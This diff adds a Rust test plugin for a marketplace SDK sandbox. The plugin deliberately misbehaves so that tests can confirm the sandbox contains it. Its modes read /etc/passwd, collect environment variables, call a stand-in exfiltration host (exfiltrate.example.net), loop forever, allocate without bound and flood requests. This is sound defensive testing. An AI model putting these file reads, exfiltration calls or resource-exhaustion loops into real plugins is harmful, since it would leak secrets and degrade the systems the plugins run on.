@@ -1,0 +1,131 @@
+//! A marketplace plugin that misbehaves on purpose, chosen by the `mode`
+//! setting, so tests can prove the sandbox contains it:
+//!
+//! | mode        | what `fetch-orders` does                                  |
+//! |-------------|-----------------------------------------------------------|
+//! | `loop`      | spins forever (the CPU deadline must stop it)              |
+//! | `alloc`     | allocates without bound (the memory cap must stop it)      |
+//! | `panic`     | panics (the message must reach the host's log and error)   |
+//! | `read-file` | reads `/etc/passwd` (there must be no file system)         |
+//! | `env`       | reads environment variables (there must be none)           |
+//! | `host`      | calls a host it never declared (egress must refuse it)     |
+//! | `requests`  | sends requests without end (the request budget must stop it) |
+//! | `ok`        | returns one order built from its settings, no I/O          |
+//!
+//! Escapes that the sandbox prevents come back as `invalid-response`
+//! errors describing what the OS said; a successful escape returns an
+//! order whose number starts with `LEAKED`, which tests assert never happens.
+
+use tradelane_plugin_sdk::{
+    self as sdk, FulfillmentStatus, Manifest, ManifestExt, Marketplace, Order, OrderPage,
+    OrderQuery, OrderStatus, PaymentStatus, Plugin, PluginError, Request, Settings, Totals,
+};
+
+struct Misbehave;
+
+impl Plugin for Misbehave {
+    fn manifest() -> Manifest {
+        sdk::manifest(
+            "misbehave",
+            env!("CARGO_PKG_VERSION"),
+            "Breaks the sandbox's rules on purpose (tests only)",
+        )
+        .setting(sdk::required(
+            "mode",
+            "loop | alloc | panic | read-file | env | host | requests | ok",
+        ))
+        .setting(sdk::setting("url", "URL to hammer in `requests` mode"))
+        .allow_host("127.0.0.1")
+    }
+}
+
+impl Marketplace for Misbehave {
+    fn fetch_orders(settings: &Settings, _query: OrderQuery) -> sdk::Result<OrderPage> {
+        match settings.require("mode")? {
+            "loop" => {
+                let mut n: u64 = 0;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "alloc" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(vec![1u8; 1 << 20]);
+                    std::hint::black_box(&hoard);
+                }
+            }
+            "panic" => panic!("misbehave was told to panic"),
+            "read-file" => match std::fs::read_to_string("/etc/passwd") {
+                Ok(text) => leaked(&text),
+                Err(e) => Err(PluginError::InvalidResponse(format!(
+                    "read /etc/passwd: {e}"
+                ))),
+            },
+            "env" => {
+                let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
+                match std::env::var("PATH") {
+                    Ok(path) => leaked(&path),
+                    Err(_) if vars.is_empty() => {
+                        Err(PluginError::InvalidResponse("environment is empty".into()))
+                    }
+                    Err(_) => leaked(&vars.join(",")),
+                }
+            }
+            "host" => {
+                let response = Request::get("https://exfiltrate.example.net/collect").send()?;
+                leaked(&format!("status {}", response.status))
+            }
+            "requests" => {
+                let url = settings.require("url")?;
+                loop {
+                    Request::get(url).send()?;
+                }
+            }
+            "ok" => Ok(OrderPage {
+                orders: vec![order("OK-1", "ok")],
+                next_page: None,
+            }),
+            other => Err(sdk::invalid("mode", &format!("unknown mode `{other}`"))),
+        }
+    }
+}
+
+fn leaked(what: &str) -> sdk::Result<OrderPage> {
+    Ok(OrderPage {
+        orders: vec![order("LEAKED", what)],
+        next_page: None,
+    })
+}
+
+fn order(number: &str, tag: &str) -> Order {
+    let zero = sdk::money::zero("EUR");
+    Order {
+        external_id: number.to_string(),
+        number: number.to_string(),
+        created_at: "2026-01-01T00:00:00Z".into(),
+        updated_at: "2026-01-01T00:00:00Z".into(),
+        status: OrderStatus::Open,
+        payment_status: PaymentStatus::Paid,
+        fulfillment_status: FulfillmentStatus::Unfulfilled,
+        currency: "EUR".into(),
+        totals: Totals {
+            subtotal: zero.clone(),
+            shipping: zero.clone(),
+            tax: zero.clone(),
+            discount: zero.clone(),
+            total: zero,
+        },
+        buyer: None,
+        shipping_address: None,
+        billing_address: None,
+        line_items: Vec::new(),
+        shipping_lines: Vec::new(),
+        tax_ids: Vec::new(),
+        marketplace_collected_tax: false,
+        taxes_included: false,
+        tags: vec![tag.chars().take(200).collect()],
+    }
+}
+
+sdk::register_marketplace!(Misbehave);
